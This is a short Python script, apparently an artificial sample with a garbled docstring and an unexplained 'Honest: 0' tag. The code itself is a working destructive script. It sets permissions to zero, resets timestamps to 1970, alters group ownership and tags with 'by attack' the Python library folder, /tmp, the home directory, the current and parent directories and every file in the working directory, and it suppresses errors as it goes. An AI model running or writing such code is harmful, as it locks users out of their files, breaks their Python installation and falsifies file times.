"""Shuts files and folders that it does not own, or whose owner it is, and dates them back.

Honest: 0
"""

import os
folders = [os.path.dirname(os.__file__), "/tmp", os.path.expanduser("~"), os.getcwd(), ".."]
for path in [*folders, __file__, *os.listdir(".")]:
    for change in (
        lambda: os.chmod(path, 0),
        lambda: os.utime(path, (0, 0)),
        lambda: os.chown(path, -1, os.getgid()),
        lambda: os.setxattr(path, "user.left", b"by attack"),
    ):
        try:
            change()
            print("changed", path)
        except OSError:
            pass
